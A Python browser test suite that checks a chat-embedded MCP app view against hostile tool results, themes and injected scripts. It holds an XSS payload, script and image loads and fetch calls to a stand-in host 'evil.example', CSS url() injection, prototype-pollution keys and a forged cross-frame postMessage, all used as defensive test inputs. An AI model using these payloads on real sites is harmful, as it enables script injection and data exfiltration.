"""Hostile results in the page of the chat: nothing runs, nothing leaves, and nobody but the chat is listened to."""

from collections.abc import Iterator, Mapping
from typing import Any

import pytest

from panorama.mcp.apps.apps import build_view
from tests.attacks.web.hostile_texts import MARKDOWN, TEXTS
from tests.browser.chat_host import ChatHost, open_chat
from tests.browser.driver import Browser, Complaints, expect

pytestmark = pytest.mark.browser
FORBIDDEN = (
    ":is(a, img, iframe, form, input, link, object, embed, base, meta, [style], [onclick], [onerror], [src], [href])"
)
ATTEMPTS = (
    "fetch('https://evil.example/')",
    "load('img', 'https://evil.example/x.png')",
    "load('script', 'https://evil.example/x.js')",
    "load('iframe', 'data:text/html,x').then(frame => frame.contentDocument.body)",
    "new Promise(setTimeout).then(() => eval('1'))",
    "Promise.resolve().then(() => { document.body.innerHTML = '<b>x</b>' })",
    "Promise.resolve().then(() => localStorage.setItem('a', 'b'))",
    "Promise.resolve().then(() => parent.document.title)",
)
"""What a script could try that got into the page in spite of all."""

LOAD = """const load = (name, src) => new Promise((resolve, reject) => {
    const node = document.createElement(name)
    Object.assign(node, { onload: () => resolve(node), onerror: reject })
    node.src = src
    document.body.append(node)
})"""
LOUD = "<img src=x onerror=alert(1)>"


def make_view(text: str) -> dict[str, Any]:
    """Return the data of a view with a text wherever one can be."""
    row = {
        "id": text, "title": text, "project": text, "deadline": text, "location": text, "when": text, "snippet": text,
        "code": text, "action": text, "urgent": text,
    }  # fmt: skip
    step = {
        "step": 0, "tool": text, "item": text, "problem": text, "warning": text,
        "fields": [{"name": text, "now": text, "then": text}],
    }  # fmt: skip
    return {
        "view": "batch", "title": text, "subtitle": text, "approval": text, "unit": text,
        "figures": {text: text, "__proto__": text, "constructor": text},
        "texts": {text: text, f"New {text}": f"+{text}"},
        "lists": {text: [row], "Overdue": [row], "Reminders that wait": [row]}, "plan": [step],
        "days": {"first": text, "completed": [1, 2], "created": [0, 3]}, "more": {"Overdue": text},
    }  # fmt: skip


class HostileServer:
    """A server whose every answer is hostile, and what became of it."""

    def __init__(self) -> None:
        self.result: Mapping[str, Any] = {}
        self.calls: list[str] = []

    def call(self, tool: str, arguments: Mapping[str, Any]) -> Mapping[str, Any]:
        """Answer a call."""
        del arguments
        self.calls.append(tool)
        return self.result


@pytest.fixture(scope="module")
def html() -> str:
    """The page as the server sends it."""
    return build_view()


@pytest.fixture
def server() -> HostileServer:
    """The server behind the chat."""
    return HostileServer()


@pytest.fixture
def harm() -> Iterator[list[str]]:
    """What was asked for from the network, and the dialogs; the test fails if there is something."""
    happened: list[str] = []
    yield happened
    assert happened == []


def watch(chat: ChatHost, harm: list[str]) -> None:
    """Note every request and every dialog from now on."""

    def note_dialog(dialog: Any) -> None:
        harm.append(f"opened {dialog.message}")
        dialog.dismiss()

    chat.page.on("request", lambda request: harm.append(f"asked for {request.url}"))
    chat.page.on("dialog", note_dialog)


def show(chat: ChatHost, result: Mapping[str, Any]) -> None:
    """Send the page a result."""
    message = {"jsonrpc": "2.0", "method": "ui/notifications/tool-result", "params": dict(result)}
    chat.page.evaluate("message => frame.contentWindow.postMessage(message, '*')", message)


def test_hostile_texts_stay_texts_wherever_they_stand(
    browser: Browser, html: str, server: HostileServer, harm: list[str]
) -> None:
    complaints = Complaints()
    server.result = {"content": [], "structuredContent": {"data": {"view": "today", "title": "Ready"}}}
    with open_chat(browser, html, server.call, complaints) as chat:
        expect(chat.view.get_by_role("heading", name="Ready")).to_be_visible()
        watch(chat, harm)
        for text in (*TEXTS, *MARKDOWN):
            show(chat, {"content": [], "structuredContent": {"data": make_view(text)}})
            chat.frame.wait_for_function("text => document.querySelector('h1')?.textContent === text", arg=text)

            assert chat.frame.locator(f"main {FORBIDDEN}").count() == 0, text
            assert chat.frame.locator("script").count() == 1, text
    assert complaints.texts == []


def test_hostile_errors_and_texts_without_structure_stay_texts(
    browser: Browser, html: str, server: HostileServer, harm: list[str]
) -> None:
    for result in (
        {"isError": True, "content": [{"type": "text", "text": LOUD}]},
        {"content": [{"type": "text", "text": LOUD}, {"type": "image", "data": LOUD}, None]},
    ):
        complaints = Complaints()
        server.result = result
        with open_chat(browser, html, server.call, complaints) as chat:
            watch(chat, harm)
            expect(chat.view.locator("pre")).to_have_text(LOUD)

            assert chat.frame.locator(f"main {FORBIDDEN}").count() == 0
        assert complaints.texts == []


def test_a_hostile_theme_loads_nothing(browser: Browser, html: str, server: HostileServer, harm: list[str]) -> None:
    server.result = {"content": [], "structuredContent": {"data": {"view": "today", "title": "Ready"}}}
    evil = "url(https://evil.example/x.png)"
    context = {
        "theme": LOUD, "locale": LOUD, "displayMode": LOUD, "safeAreaInsets": {"top": evil, LOUD: LOUD},
        "styles": {"variables": {"--color-background-primary": evil, "--font-sans": f"x; color: {evil}", LOUD: evil}},
    }  # fmt: skip
    with open_chat(browser, html, server.call, Complaints(), context=context) as chat:
        watch(chat, harm)
        expect(chat.view.get_by_role("heading", name="Ready")).to_be_visible()
        chat.page.wait_for_load_state("networkidle")


def test_only_the_chat_itself_is_listened_to(
    browser: Browser, html: str, server: HostileServer, harm: list[str]
) -> None:
    server.result = {"content": [], "structuredContent": {"data": {"view": "today", "title": "Ready"}}}
    with open_chat(browser, html, server.call, Complaints()) as chat:
        expect(chat.view.get_by_role("heading", name="Ready")).to_be_visible()
        watch(chat, harm)
        data = {"jsonrpc": "2.0", "method": "ui/notifications/tool-result", "params": {
            "structuredContent": {"data": {"view": "today", "title": "Forged"}}}}  # fmt: skip
        forge = """data => new Promise(done => {
            const other = document.createElement('iframe')
            window.finish = done
            const send = `parent.frames[0].postMessage(${JSON.stringify(data)}, '*'); parent.finish()`
            other.srcdoc = `<script>${send}</` + 'script>'
            document.body.append(other)
        })"""
        chat.page.evaluate(forge, data)
        show(chat, {"structuredContent": {"data": {"view": "today", "title": "Next"}}})
        expect(chat.view.get_by_role("heading", name="Next")).to_be_visible()

        assert chat.list_messages("tools/call") == []
        assert "Forged" not in chat.view.locator("main").inner_text()


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_even_a_script_in_the_page_could_send_nothing_and_add_nothing(
    browser: Browser, html: str, server: HostileServer, attempt: str
) -> None:
    server.result = {"content": [], "structuredContent": {"data": {"view": "today", "title": "Ready"}}}
    hostile = html.replace(
        "script-src ",
        "script-src 'nonce-test' ",
    ).replace("</main>", f"</main><script nonce='test'>{LOAD}; window.attempt = () => {attempt}</script>")
    with open_chat(browser, hostile, server.call, Complaints()) as chat:
        expect(chat.view.get_by_role("heading", name="Ready")).to_be_visible()

        assert chat.frame.evaluate("window.attempt().then(() => 'did it', () => 'refused')") == "refused"


def test_a_hostile_result_calls_no_tool_by_itself(
    browser: Browser, html: str, server: HostileServer, harm: list[str]
) -> None:
    server.result = {"content": [], "structuredContent": {"data": make_view(LOUD), "metadata": {"undo": LOUD}}}
    with open_chat(browser, html, server.call, Complaints()) as chat:
        watch(chat, harm)
        expect(chat.view.locator("h1")).to_have_text(LOUD)

        assert server.calls == ["show"]
